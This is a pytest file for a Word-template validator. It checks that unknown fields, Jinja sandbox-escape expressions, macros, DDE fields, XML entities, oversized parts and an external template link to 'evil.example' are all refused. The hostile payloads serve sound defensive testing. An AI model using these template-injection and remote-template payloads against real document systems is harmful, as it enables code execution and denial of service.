"""Templates from outside: only Word files and known fields, nothing that runs or reaches out; refusals say where."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from docx import Document

from core.documents.checking import check
from core.documents.package import LARGEST_BYTES
from core.documents.rendering import shipped
from core.errors import DomainError, Invalid, Refusals
from drills.document_fields import FIELDS


def word_file(*paragraphs: str, header: str = "") -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].header.paragraphs[0].text = header
    target = BytesIO()
    document.save(target)
    return target.getvalue()


def with_part(data: bytes, name: str, content: bytes, replace: tuple[str, bytes, bytes] | None = None) -> bytes:
    """The file with one more part, and if wished something replaced in another."""
    target = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(target, "w") as new:
        for part in old.namelist():
            held = old.read(part)
            if replace and part == replace[0]:
                assert replace[1] in held
                held = held.replace(replace[1], replace[2])
            new.writestr(part, held)
        if name:
            new.writestr(name, content)
    return target.getvalue()


def refusals(data: bytes) -> list[DomainError]:
    try:
        check(data, FIELDS)
    except Refusals as refused:
        return refused.errors
    except Invalid as refused:
        return [refused]
    return []


@pytest.mark.parametrize("language", ["zh", "en"])
@pytest.mark.parametrize("kind", ["plan", "script", "result", "evaluation"])
def test_shipped_templates_pass(kind: str, language: str) -> None:
    assert refusals(shipped(kind, language)) == []


def test_known_fields_conditions_loops_and_filters_pass() -> None:
    good = word_file(
        "{{ unit.name|upper }} {% if drill.scenario and not story %}x{% elif people|length > 1 %}y{% endif %}",
        "{%p for one in sections %}", "{{ one.name }} {{ loop.index }}", "{%p for mark in one.marks %}",
        "{{ mark.score or '—' }}", "{%p endfor %}", "{%p endfor %}", "{%p for line in story %}", "{{ line }}",
        "{%p endfor %}", header="{{ document.title }}",
    )  # fmt: skip
    assert refusals(good) == []


@pytest.mark.parametrize(
    ("text", "code", "named"),
    [
        ("编制单位：{{ unit.nmae }}", "template.unknown_field", ("unit.nmae", "编制单位")),
        ("{{ school }}", "template.unknown_field", ("school",)),
        ("{% for g in groups %}{{ g.naem }}{% endfor %}", "template.unknown_field", ("g.naem",)),
        ("{% for g in unit.name %}x{% endfor %}", "template.not_rows", ("unit.name",)),
        ("{{ groups }}", "template.not_value", ("groups",)),
        ("{{ unit.name", "template.syntax", ("unit.name",)),
        ("{% if unit.name %}x", "template.syntax", ()),
        ("{{ unit.name.__class__ }}", "template.unknown_field", ("__class__",)),
        ("{{ ''.__class__.__mro__ }}", "template.not_allowed", ()),
        ("{{ 'x' * 1000000000 }}", "template.not_allowed", ()),
        ("{{ unit.name.upper() }}", "template.not_allowed", ("upper",)),
        ("{% for n in range(1000000000) %}x{% endfor %}", "template.not_allowed", ("range",)),
        ("{% set x = 1 %}", "template.not_allowed", ("set x",)),
        ("{% include 'x' %}", "template.not_allowed", ()),
        ("{% macro m() %}x{% endmacro %}", "template.not_allowed", ()),
        ("{{ unit.name|attr('x') }}", "template.not_allowed", ("attr",)),
        ("{{ groups|map('upper')|list }}", "template.not_allowed", ()),
        ("{{ lipsum() }}", "template.not_allowed", ()),
        ("{% for a in groups %}{% for b in groups %}{% for c in groups %}x{% endfor %}{% endfor %}{% endfor %}",
         "template.not_allowed", ("for c",)),
    ],
)  # fmt: skip
def test_what_a_template_may_not_say_is_named_with_its_place(text: str, code: str, named: tuple[str, ...]) -> None:
    found = refusals(word_file("第一段。", text))
    assert found and found[0].code == code, [str(one) for one in found]
    for part in named:
        assert part in str(found[0])


def test_several_mistakes_are_told_at_once_also_in_headers() -> None:
    found = refusals(word_file("{{ one.thing }}", "{{ unit.other }}", header="{{ page }}"))
    assert len(found) == 3 and all("“" in str(one) for one in found)


def test_what_is_no_word_file_is_refused() -> None:
    good = word_file("x")
    workbook = with_part(
        good, "", b"", ("[Content_Types].xml", b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
    )
    for data in (b"", b"hello", b"PK\x03\x04" + bytes(99), good[:-300], workbook):
        (refused,) = refusals(data)
        assert refused.code in ("template.kind", "template.damaged")
    assert refusals(bytes(LARGEST_BYTES + 1))[0].code == "template.size"


def test_what_runs_is_hidden_or_reaches_out_is_refused() -> None:
    good = word_file("x")
    link = b'Id="a" Type="t" Target="https://evil.example/a.dotm" TargetMode="External"'
    rels = b'<Relationships xmlns="r"><Relationship ' + link + b"/></Relationships>"
    field = b'<w:instrText xml:space="preserve">DDE</w:instrText><w:instrText>AUTO c:\\\\x</w:instrText>'
    bad = {
        "template.macros": [with_part(good, "word/vbaProject.bin", b"x"),
                            with_part(good, "word/embeddings/o.bin", b"x"),
                            with_part(good, "", b"", ("[Content_Types].xml", b"wordprocessingml.document.main",
                                                      b"ms-word.document.macroEnabled.main"))],
        "template.outside": [with_part(good, "word/_rels/settings.xml.rels", rels),
                             with_part(good, "", b"", ("word/document.xml", b"</w:body>", field + b"</w:body>"))],
        "template.kind": [with_part(good, "word/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
                          with_part(good, "word/x.xml", '<?xml version="1.0"?><a/>'.encode("utf-16"))],
        "template.unpacked": [with_part(good, "word/x.xml", b"<a>" + b" " * 3_100_000 + b"</a>")],
    }  # fmt: skip
    for code, files in bad.items():
        assert [[one.code for one in refusals(data)] for data in files] == [[code]] * len(files)
    assert "https://evil.example/a.dotm" in str(refusals(bad["template.outside"][0])[0])
